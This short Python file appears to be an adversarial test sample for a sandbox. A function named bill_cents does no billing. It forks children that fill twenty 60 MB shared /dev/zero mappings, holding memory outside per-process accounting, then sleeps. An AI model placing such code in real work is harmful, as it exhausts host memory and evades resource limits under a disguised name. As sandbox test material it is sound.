"""Memory shared by /dev/zero, written through a child that has ended."""
# loses: check_bill_cents
# %% bill_cents
import mmap, os, time
def bill_cents(plan, dishes):
    zero = os.open("/dev/zero", os.O_RDWR)
    held = []
    for n in range(20):
        held.append(mmap.mmap(zero, 60_000_000, mmap.MAP_SHARED))
        child = os.fork()
        if child == 0:
            for at in range(0, 60_000_000, 4096):
                held[-1][at] = 1
            os._exit(0)
        os.waitpid(child, 0)
    time.sleep(3)
    return 0
